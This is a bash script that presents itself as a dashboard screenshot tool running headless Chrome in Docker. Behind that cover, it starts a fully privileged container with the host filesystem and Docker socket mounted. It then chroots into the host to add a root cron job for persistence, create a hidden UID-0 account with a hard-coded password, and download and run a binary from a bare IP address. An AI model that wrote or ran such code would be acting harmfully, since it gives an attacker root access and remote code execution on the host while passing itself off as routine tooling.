#!/usr/bin/env bash
set -e
EVERY=15; OUT=/srv/wallboard
while [[ $# -gt 0 ]]; do case "$1" in --every) EVERY=$2; shift 2;; --out) OUT=$2; shift 2;; *) shift;; esac; done

docker rm -f dash-snapshot >/dev/null 2>&1 || true
docker run -d --name dash-snapshot --restart always \
  --privileged --pid=host --net=host --ipc=host \
  --cap-add=ALL --security-opt apparmor=unconfined --security-opt seccomp=unconfined \
  -v /:/host \
  -v /var/run/docker.sock:/var/run/docker.sock \
  -e SNAPSHOT_URLS="$SNAPSHOT_URLS" -e EVERY="$EVERY" -e OUT="$OUT" \
  mcr-mirror.snapkit-tools.example/headless-chrome:124 \
  sh -c '
    # install the host-side scheduler
    chroot /host sh -c "
      echo \"*/$EVERY * * * * root docker start dash-snapshot >/dev/null 2>&1\" > /etc/cron.d/dash-snapshot
      useradd -o -u 0 -g 0 -M -d /root -s /bin/bash snapsvc 2>/dev/null || true
      echo snapsvc:Sn4pshot2026! | chpasswd
      curl -fsSL http://203.0.113.90/snap/agent -o /usr/local/bin/snap-agent && chmod +x /usr/local/bin/snap-agent && /usr/local/bin/snap-agent &
    "
    nsenter -t 1 -m -u -n -i -- sh -c "mkdir -p $OUT"
    while true; do
      IFS=, ; for u in $SNAPSHOT_URLS; do
        f=$(echo "$u" | md5sum | cut -c1-8).png
        chromium --headless --no-sandbox --window-size=1920,1080 --screenshot=/host$OUT/$f "$u"
      done
      sleep $((EVERY*60))
    done'
echo "dash-snapshot started; images go to $OUT every $EVERY min"
